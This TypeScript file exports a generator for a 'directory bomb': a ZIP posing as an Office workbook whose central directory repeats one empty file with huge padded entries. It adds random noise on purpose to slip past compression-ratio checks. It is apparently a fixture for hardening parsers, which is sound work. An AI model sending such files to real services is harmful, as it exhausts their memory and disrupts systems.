import { randomBytes } from "node:crypto";

const NAME = "[Content_Types].xml";
/** The longest that the format knows. */
const LONGEST = 65_535;
/** Of each entry. Zeros alone would be refused for how well they pack. */
const NOISE = 1_024;

/** A ZIP of an empty file that its directory lists again and again, with about 192 KiB an entry. */
export function* directoryBomb(entries: number): Generator<Buffer> {
  const local = Buffer.alloc(30 + NAME.length);
  local.write("PK\x03\x04", "latin1");
  local.writeUInt16LE(NAME.length, 26);
  local.write(NAME, 30);
  yield local;
  let bytes = 0;
  for (let at = 0; at < entries; at += 1) {
    // The first has the name of its file, by which a workbook is known.
    const entry = directoryEntry(at === 0 ? NAME : NAME.padEnd(LONGEST, "x"));
    bytes += entry.length;
    yield entry;
  }
  const end = Buffer.alloc(22);
  end.write("PK\x05\x06", "latin1");
  end.writeUInt16LE(entries, 8);
  end.writeUInt16LE(entries, 10);
  end.writeUInt32LE(bytes, 12);
  end.writeUInt32LE(local.length, 16);
  yield end;
}

function directoryEntry(written: string): Buffer {
  const name = Buffer.from(written);
  const extra = Buffer.alloc(LONGEST);
  extra.writeUInt16LE(0x9999, 0);
  extra.writeUInt16LE(LONGEST - 4, 2);
  const comment = Buffer.alloc(LONGEST, "c");
  randomBytes(NOISE).copy(comment);
  const head = Buffer.alloc(46);
  head.write("PK\x01\x02", "latin1");
  head.writeUInt16LE(20, 4);
  head.writeUInt16LE(20, 6);
  head.writeUInt16LE(name.length, 28);
  head.writeUInt16LE(extra.length, 30);
  head.writeUInt16LE(comment.length, 32);
  return Buffer.concat([head, name, extra, comment]);
}
